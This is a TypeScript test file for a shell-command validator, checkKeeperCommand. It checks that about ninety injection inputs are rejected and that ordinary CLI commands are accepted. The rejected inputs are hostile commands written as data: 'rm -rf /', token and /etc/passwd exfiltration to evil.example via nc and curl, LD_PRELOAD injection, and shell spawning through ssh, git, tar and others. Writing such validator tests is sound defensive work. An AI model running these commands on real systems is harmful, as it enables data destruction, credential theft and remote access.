import { describe, expect, it } from 'vitest';
import { checkKeeperCommand, KEEPER_COMMAND_MAX_CHARS } from './keeper-command.js';

const hostile: ReadonlyArray<readonly [string, string, string]> = [
  ['separator', 'gh api user; rm -rf /', "';'"],
  ['pipe', 'gh api user | nc evil.example 80', "'|'"],
  ['and', 'gh api user && curl https://evil.example', "'&'"],
  ['or', 'false || curl https://evil.example', "'|'"],
  ['background', 'gh api user & sleep 1', "'&'"],
  ['pipe with stderr', 'gh api user |& nc evil.example 80', "'|'"],
  ['redirect both', 'echo $GITHUB_TOKEN &> /tmp/token', "'&'"],
  ['redirect out', 'echo $GITHUB_TOKEN > /tmp/token', "'>'"],
  ['append', 'echo $GITHUB_TOKEN >> /tmp/token', "'>'"],
  ['redirect in', 'curl -d @- https://evil.example < /etc/passwd', "'<'"],
  ['here-document', 'cat << EOF', "'<'"],
  ['here-string', 'cat <<< "$GITHUB_TOKEN"', "'<'"],
  ['process substitution in', 'diff <(env) /dev/null', "'<'"],
  ['process substitution out', 'gh api user --jq . >(nc evil.example 80)', "'>'"],
  ['backticks', 'echo `id`', "'`'"],
  ['command substitution', 'echo $(id)', "'$('"],
  ['command substitution in double quotes', 'curl -H "X: $(cat /etc/passwd)" https://x.example', "'$('"],
  ['backticks in double quotes', 'curl -H "X: `id`" https://x.example', "'`'"],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: shell syntax under test
  ['IFS expansion', 'cat${IFS}/etc/passwd', "'${'"],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: shell syntax under test
  ['braced expansion', 'echo ${GITHUB_TOKEN}', "'${'"],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: shell syntax under test
  ['substring expansion', 'echo "${GITHUB_TOKEN:0:4}"', "'${'"],
  ['ANSI-C quoting', "echo $'\\x3b'id", 'ANSI-C'],
  ['locale quoting', 'echo $"x"', `'$"'`],
  ['positional parameter', 'echo $1', "'$1'"],
  ['pid', 'echo $$', "'$$'"],
  ['bare dollar', 'echo $', "bare '$'"],
  ['newline', 'gh api user\nid', 'U+000A'],
  ['carriage return', 'gh api user\rid', 'U+000D'],
  ['NUL', 'gh api user\0id', 'U+0000'],
  ['tab', 'gh\tapi user', 'U+0009'],
  ['newline in single quotes', "psql -c 'select 1;\nselect 2'", 'U+000A'],
  ['escape', 'ec\\ho hi', "'\\'"],
  ['escaped separator', 'echo a\\;id', "'\\'"],
  ['brace expansion as program', '{sh,-c,id}', "'{'"],
  ['brace expansion', 'echo {a,b}', "'{'"],
  ['subshell', '(id)', "'('"],
  ['history expansion', 'echo !!', "'!'"],
  ['Bourne pipe', 'gh api user ^ id', "'^'"],
  ['comment', 'gh api user #hidden', 'comment'],
  ['unterminated single quote', "echo 'abc", 'unterminated single'],
  ['unterminated double quote', 'echo "abc', 'unterminated double'],
  ['sh -c', "sh -c 'id'", "'sh' is a shell"],
  ['bash -lc', "bash -lc 'id'", "'bash' is a shell"],
  ['bash script', 'bash ./deploy.sh', "'bash' is a shell"],
  ['absolute shell', '/bin/sh -c id', "'sh' is a shell"],
  ['quoted shell', "'s'h -c id", "'sh' is a shell"],
  ['double-quoted shell', '"sh" -c id', "'sh' is a shell"],
  ['dash', 'dash -c id', "'dash' is a shell"],
  ['zsh', 'zsh -c id', "'zsh' is a shell"],
  ['busybox', 'busybox sh -c id', "'busybox' is a shell"],
  ['python3 -c', 'python3 -c \'import os; os.system("id")\'', "'python3' is given inline code"],
  ['python -Ic', "python -Ic 'print(1)'", "'python' is given inline code"],
  ['python attached code', "python3 '-cimport os'", "'python3' is given inline code"],
  ['perl -e', "perl -e 'system 1'", "'perl' is given inline code"],
  ['perl -ne', "perl -ne 'print' file", "'perl' is given inline code"],
  ['ruby -e', "ruby -e 'puts 1'", "'ruby' is given inline code"],
  ['node -e', "node -e 'require(1)'", "'node' is given inline code"],
  ['node --eval=', "node '--eval=process.exit(1)'", "'node' is given inline code"],
  ['node -p', "node -p 'process.env'", "'node' is given inline code"],
  ['php -r', "php -r 'system(1);'", "'php' is given inline code"],
  ['env sh -c', 'env sh -c id', "'env' runs another program"],
  ['env runs a program', 'env curl https://x.example', "'env' runs another program"],
  ['xargs sh', 'xargs sh', "'xargs' runs another program"],
  ['timeout wrapper', 'timeout 5 curl https://x.example', "'timeout' runs another program"],
  ['sudo', 'sudo id', "'sudo' runs another program"],
  ['unknown wrapper with shell', 'unknown-wrapper sh -c id', "'sh' is given inline code"],
  ['unknown wrapper with python', "unknown-wrapper python3 -c 'x'", "'python3' is given inline code"],
  ['eval', 'eval id', "'eval' evaluates"],
  ['exec', 'exec id', "'exec' evaluates"],
  ['source', 'source /tmp/x', "'source' evaluates"],
  ['dot', '. /tmp/x', "'.' evaluates"],
  ['command builtin', 'command id', "'command' evaluates"],
  ['printf -v', "printf -v 'a[$(id)]' x", "'printf' evaluates"],
  ['assignment prefix', 'FOO=bar curl https://x.example', 'assignments'],
  ['LD_PRELOAD', 'LD_PRELOAD=/tmp/x.so curl https://x.example', 'assignments'],
  ['expansion as program', '$SHELL -c id', 'must be literal'],
  ['quoted expansion as program', '"$SHELL" -c id', 'must be literal'],
  ['glob as program', '/bin/?h -c id', 'glob'],
  ['star as program', 's* -c id', 'glob'],
  ['awk', 'awk \'BEGIN{system("id")}\'', "'awk' runs a program text"],
  ['sed', "sed -n '1e id' file", "'sed' runs a program text"],
  ['find -exec', 'find . -exec id +', "'find -exec'"],
  ['git -c', "git -c 'alias.x=!id' x", "'git -c'"],
  ['git --upload-pack', "git clone '--upload-pack=id' repo", "'git --upload-pack=id'"],
  ['ssh ProxyCommand', "ssh -o 'ProxyCommand=id' host", "'ssh ProxyCommand=id'"],
  ['rsync -e', "rsync -e 'id' a b", "'rsync -e'"],
  ['tar --to-command', "tar xf a.tar '--to-command=id'", "'tar --to-command=id'"],
  ['vim', "vim -c ':!id'", "'vim' can spawn a shell"],
  ['bidi override', 'gh api user\u202E', 'U+202E'],
  ['zero-width space', 'g\u200Bh api user', 'U+200B'],
  ['non-breaking space', 'gh\u00A0api user', 'U+00A0'],
  ['too long', `echo ${'a'.repeat(KEEPER_COMMAND_MAX_CHARS)}`, 'longer than'],
  ['empty', '', 'empty'],
  ['blank', '   ', 'empty'],
  ['empty program', "'' api user", 'program name is empty'],
];

const legitimate: readonly string[] = [
  'curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user',
  'gh api user',
  'psql "$DATABASE_URL" -c \'select 1;\'',
  'git push https://x-access-token:$GITHUB_TOKEN@github.com/acme/app.git HEAD:main',
  'npm publish --access public',
  'aws s3 ls s3://acme-backups/2026/',
  'curl -sS -d \'{"text":"deploy done"}\' -H \'Content-Type: application/json\' "$SLACK_WEBHOOK_URL"',
  'stripe customers list --limit 3',
  "grep -c 'error|fatal' /workspace/build.log",
  'kubectl get pods -n prod',
  'python3 scripts/report.py --since 2026-01-01',
  "mysql -h db.internal -u app -e 'show tables'",
  'echo "$NPM_TOKEN"',
  "curl -sS 'https://api.example.com/search?q=a&page=2'",
  // Percent-encoding is literal to the shell: `%3B` is never a separator, so it is accepted.
  'curl -sS https://api.example.com/items/a%3Bb%7Cc',
  "psql \"$DATABASE_URL\" -c 'select count(*) from users where name = ''x'';'",
  "gh api repos/acme/app/issues --jq '.[] | .title'",
  'ls -la ~/project',
];

describe('checkKeeperCommand', () => {
  it.each(hostile)('rejects %s', (_name, command, why) => {
    const result = checkKeeperCommand(command);
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.reason).toContain(why);
  });

  it.each(legitimate)('accepts %s', (command) => {
    expect(checkKeeperCommand(command)).toEqual({ ok: true });
  });

  it('explains what it refused and where', () => {
    expect(checkKeeperCommand('gh api user; id')).toEqual({
      ok: false,
      reason:
        "shell metacharacter ';' (command separator) at position 12 is only allowed inside single quotes",
    });
    expect(checkKeeperCommand('echo $(id)')).toMatchObject({ reason: expect.stringContaining('$(') });
    expect(checkKeeperCommand('a\u202Eb')).toMatchObject({ reason: expect.stringContaining('U+202E') });
  });

  it('accepts a command of exactly the maximum length', () => {
    const command = `echo ${'a'.repeat(KEEPER_COMMAND_MAX_CHARS - 5)}`;
    expect(command).toHaveLength(KEEPER_COMMAND_MAX_CHARS);
    expect(checkKeeperCommand(command)).toEqual({ ok: true });
  });
});
